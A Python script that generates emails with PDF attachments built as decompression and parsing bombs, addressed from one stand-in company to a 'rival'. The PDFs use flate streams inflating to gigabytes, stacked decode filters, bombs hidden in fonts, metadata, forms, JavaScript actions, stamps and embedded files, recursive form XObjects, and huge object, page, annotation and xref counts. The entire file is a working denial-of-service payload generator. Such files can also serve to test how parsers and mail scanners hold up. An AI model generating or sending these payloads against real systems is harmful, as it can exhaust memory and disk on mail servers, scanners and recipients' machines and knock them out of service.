# SPDX-License-Identifier: GPL-3.0-or-later
# Mails with one PDF each that is small and becomes large, into a folder: pdf-bombs.py FOLDER
import base64
import os
import sys
import zlib

OUT = sys.argv[1]
MIB = 1 << 20


def flate(piece, times=1):
    """piece so many times over: packed once, then copies of what came of it."""
    start = zlib.compressobj(9)
    one = start.compress(piece) + start.flush(zlib.Z_FULL_FLUSH)
    bare = zlib.compressobj(9, zlib.DEFLATED, -15)
    again = bare.compress(piece) + bare.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(times):
        check = zlib.adler32(piece, check)
    return b"".join([one, again * (times - 1), b"\3\0", check.to_bytes(4, "big")])


def stream(data, filters=b"/FlateDecode", more=b""):
    head = b"<<%s/Filter[%s]/Length %d>>stream\n" % (more, filters, len(data))
    return head + data + b"\nendstream"


def clear(data, more=b""):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(data), data)


def mail(name, pdf):
    fields = [
        "From: anna@corp.example",
        "To: bob@rival.example",
        "Subject: " + name,
        "MIME-Version: 1.0",
        "Content-Type: application/pdf; name=%s.pdf" % name,
        "Content-Disposition: attachment; filename=%s.pdf" % name,
        "Content-Transfer-Encoding: base64",
        "",
        "",
    ]
    with open(os.path.join(OUT, name + ".eml"), "wb") as file:
        file.write("\r\n".join(fields).encode())
        file.write(base64.encodebytes(pdf).replace(b"\n", b"\r\n"))


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def catalog(more):
    return b"<</Type/Catalog/Pages 2 0 R" + more + b">>"


def page(more=b""):
    return (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>/XObject<</X 10 0 R>>>>" + more + b">>"
    )


def write(name, **changed):
    """A page of text with the objects that are changed, o4 being object 4, and a right table."""
    objects = {
        1: CATALOG,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: page(),
        4: clear(b"BT /F 12 Tf 20 200 Td (falcon) Tj ET"),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    objects.update({int(key[1:]): value for key, value in changed.items()})
    pieces, places, at = [b"%PDF-1.7\n"], {}, 9
    for number, what in objects.items():
        places[number] = at
        pieces.append(b"%d 0 obj\n%s\nendobj\n" % (number, what))
        at += len(pieces[-1])
    top = max(places) + 1
    pieces.append(b"xref\n0 %d\n" % top)
    for number in range(top):
        if number in places:
            pieces.append(b"%010d 00000 n \n" % places[number])
        else:
            pieces.append(b"0000000000 65535 f \n")
    pieces.append(b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (top, at))
    mail(name, b"".join(pieces))


def write_table(name, data, more):
    """A packed table of objects and nothing that it could tell of."""
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    table = stream(data, more=b"/Type/XRef/Root 1 0 R" + more)
    mail(
        name,
        body + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(body)),
    )


WORDS_LINE = b"BT /F 12 Tf 20 200 Td (falcon) Tj ET\n"
BLANK = flate(b" " * MIB, 4096)  # 4 GiB
WORDS = flate(WORDS_LINE * 28000, 2048)  # 2 GiB
STAMP = b"/Annots[<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AP<</N 6 0 R>>>>]"
FILES = b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>"
FILE = b"<</F(a.txt)/EF<</F 7 0 R>>>>"
TWICE = b"/FlateDecode/FlateDecode"

write("blank", o4=stream(BLANK))
write("words", o4=stream(WORDS))
write("nested", o4=stream(flate(WORDS), TWICE))
write("nested-3", o4=stream(flate(flate(flate(b"\0" * MIB, 2048))), TWICE + b"/FlateDecode"))
write("filters", o4=stream(b"61>", b"/ASCIIHexDecode" * 100000))
write("font", o5=b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>", o6=stream(BLANK))
write("metadata", o1=catalog(b"/Metadata 6 0 R"), o6=stream(BLANK, more=b"/Subtype/XML"))
write("form", o1=catalog(b"/AcroForm<</XFA 6 0 R>>"), o6=stream(BLANK))
write("script", o1=catalog(b"/OpenAction<</S/JavaScript/JS 6 0 R>>"), o6=stream(BLANK))
write(
    "stamp",
    o3=page(STAMP),
    o6=stream(WORDS, more=b"/BBox[0 0 300 300]/Resources<</Font<</F 5 0 R>>>>"),
)
write("file", o1=catalog(FILES), o6=FILE, o7=stream(BLANK))
write("file-twice", o1=catalog(FILES), o6=FILE, o7=stream(flate(BLANK), TWICE))
write("levels", o3=page(b"/X " + b"[" * 1000000))
write("objects", **{"o%d" % number: b"0" for number in range(6, 1000006)})
write("pages", o2=b"<</Type/Pages/Count 1000000/Kids[" + b"3 0 R " * 1000000 + b"]>>")
write(
    "notes",
    o3=page(b"/Annots[" + b"<</Subtype/Text/Rect[0 0 9 9]/Contents(n)>>" * 300000 + b"]"),
)
write(
    "stamps",
    o3=page(b"/Annots[" + b"<</Subtype/Stamp/Rect[0 0 9 9]/AP<</N 6 0 R>>>>" * 300000 + b"]"),
    o6=clear(b" ", b"/BBox[0 0 9 9]"),
)
# Forms that draw the next one ten times each, ten levels deep.
LAUGHS = {
    "o%d" % level: clear(
        b"/X Do " * 10,
        b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (level + 1),
    )
    for level in range(10, 20)
}
LAUGHS["o20"] = clear(WORDS_LINE, b"/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>>>")
write("laughs", o4=clear(b"/X Do"), **LAUGHS)
write_table("table", flate(b"\1\0\0\x09\0" * 200000, 4000), b"/W[1 3 1]/Size 800000000")
write_table("claims", flate(b"\1\0\0\x09\0"), b"/W[1 3 1]/Size 2000000000")
